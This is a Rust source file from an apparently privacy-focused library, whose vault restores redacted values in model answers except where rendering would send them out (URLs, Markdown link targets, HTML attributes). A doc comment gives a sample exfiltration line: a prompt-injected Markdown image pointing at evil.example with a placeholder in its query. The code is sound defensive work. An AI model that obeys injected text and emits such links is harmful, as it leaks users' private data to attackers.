//! What was taken out, for as long as the request lives.

use crate::placeholder::MAX_LEN;
use crate::render::Context;
use core::fmt;
use std::collections::BTreeMap;

/// Placeholder → original, of one request. Its `Debug` shows how many values it holds and none of them.
pub struct Vault(BTreeMap<String, String>);

impl Vault {
    pub(crate) fn new(pairs: impl Iterator<Item = (String, String)>) -> Self {
        Self(pairs.collect())
    }

    /// Whether nothing was taken out, so that an answer needs no restoring.
    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }

    /// `text` with this vault's own placeholders replaced by their originals; any other text stays as it is, however
    /// much it looks like a placeholder.
    ///
    /// A placeholder stays where rendering the answer would send it somewhere. A prompt injection can make the
    /// model write `![](https://evil.example/?q=[EMAIL_1_k3f9a2x7])`. These places are:
    /// - a run of characters without white space that holds, before the placeholder, `//` (or `\/\/`), `www.`, a
    ///   scheme such as `mailto:`, or a dotted name followed by `/`, `?`, `#` or a backslash;
    /// - before `.name` followed by another `.name`, `/`, `?`, `#` or `:` (it would be part of a host name);
    /// - between `](` and its closing parenthesis, that is, in a Markdown link's or image's target or title;
    /// - between `<tag` and its closing `>`, that is, in an HTML attribute.
    ///
    /// When in doubt the placeholder stays: also in compact JSON, where a URL earlier in the same run counts.
    /// What a script inside an answer does with its text is the renderer's affair. The text is read once.
    pub fn restore_text(&self, text: &str) -> String {
        self.restore_text_within(text, usize::MAX).unwrap_or_default()
    }

    /// As [`Vault::restore_text`], or `None` when the result would be longer than `max_bytes`: an answer may repeat one
    /// placeholder of a long value any number of times.
    pub fn restore_text_within(&self, text: &str, max_bytes: usize) -> Option<String> {
        let mut out = String::with_capacity(text.len());
        let mut context = Context::default();
        let mut copied = 0;
        let mut skip_to = 0;
        for (at, byte) in text.bytes().enumerate() {
            let rest = text.as_bytes().get(at.saturating_add(1)..).unwrap_or_default();
            if byte == b'['
                && at >= skip_to
                && let Some((placeholder, original)) = self.at(text, at)
            {
                let end = at.saturating_add(placeholder.len());
                let after = text.as_bytes().get(end..).unwrap_or_default();
                if context.is_plain(after) {
                    out.push_str(text.get(copied..at).unwrap_or_default());
                    out.push_str(original);
                    if out.len() > max_bytes {
                        return None;
                    }
                    copied = end;
                }
                skip_to = end;
            }
            context.step(byte, rest);
        }
        out.push_str(text.get(copied..).unwrap_or_default());
        (out.len() <= max_bytes).then_some(out)
    }

    /// The placeholder of this vault that begins at `at`, and its original.
    fn at(&self, text: &str, at: usize) -> Option<(&str, &str)> {
        let window = text.as_bytes().get(at..)?.iter().take(MAX_LEN);
        let length = window.clone().position(|byte| *byte == b']')?.checked_add(1)?;
        let (placeholder, original) = self.0.get_key_value(text.get(at..at.checked_add(length)?)?)?;
        Some((placeholder, original))
    }
}

impl fmt::Debug for Vault {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Vault").field("values", &self.0.len()).finish_non_exhaustive()
    }
}
